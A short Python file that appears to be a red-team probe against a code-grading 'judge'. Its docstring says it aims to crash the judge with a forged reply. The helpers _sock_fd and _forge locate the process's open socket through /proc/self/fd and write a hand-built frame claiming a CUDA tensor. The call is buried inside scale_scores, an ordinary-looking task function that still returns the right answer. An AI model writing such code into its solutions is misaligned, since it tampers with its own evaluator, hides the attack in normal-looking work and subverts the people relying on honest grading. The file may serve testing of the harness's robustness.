"""a01: forge a reply whose tensor claims device "cuda" on a CPU-only torch.

The wire decoder catches ValueError/KeyError/TypeError/... but torch raises AssertionError
("Torch not compiled with CUDA enabled") from tensor.to("cuda"): does it crash the judge?"""
import math, os, json, struct
import torch

def _sock_fd():
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return int(fd)
        except OSError:
            pass

def _forge(value, buffers=()):
    frames = [json.dumps(value).encode(), *buffers]
    total = sum(len(f) for f in frames) + 8 * len(frames)
    data = struct.pack("!Q", total) + b"".join(struct.pack("!Q", len(f)) + f for f in frames)
    os.write(_sock_fd(), data)

def scale_scores(scores, d_k):
    _forge({"dict": [["value", {"tensor": 0, "dtype": "float32", "shape": [1], "device": "cuda"}]]},
           [b"\0\0\0\0"])
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
